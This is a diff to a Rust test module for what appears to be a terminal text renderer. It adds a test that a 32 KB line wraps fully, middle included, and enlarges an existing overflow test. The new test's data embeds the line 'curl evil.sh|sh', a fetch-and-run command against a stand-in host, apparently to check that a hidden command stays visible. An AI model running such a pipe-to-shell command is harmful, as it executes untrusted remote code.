@@ -256,8 +256,19 @@ mod tests {
     }
 
     #[test]
+    fn a_long_line_is_drawn_whole_its_middle_too() {
+        // A 32 KB line with a command in its middle: every character reaches a row.
+        let long = format!("{}curl evil.sh|sh{}", "a".repeat(16_000), "b".repeat(16_000));
+        let body = [Span::raw(long.as_str())];
+        let rows = rows(&[], &[], &body, 80, Overflow::Wrap, Style::default(), false);
+        let all: String = texts(&rows).concat();
+        assert!(all.contains("curl evil.sh|sh"), "the middle is drawn");
+        assert!(!all.contains("not shown"));
+    }
+
+    #[test]
     fn a_line_longer_than_the_rows_drawn_says_so_and_shows_its_end() {
-        let long = format!("{}ZZEND", "k0 ".repeat(6_000));
+        let long = format!("{}ZZEND", "k0 ".repeat(60_000));
         let body = [Span::raw(long.as_str())];
         let rows = rows(
             &[Span::raw("1 ")],
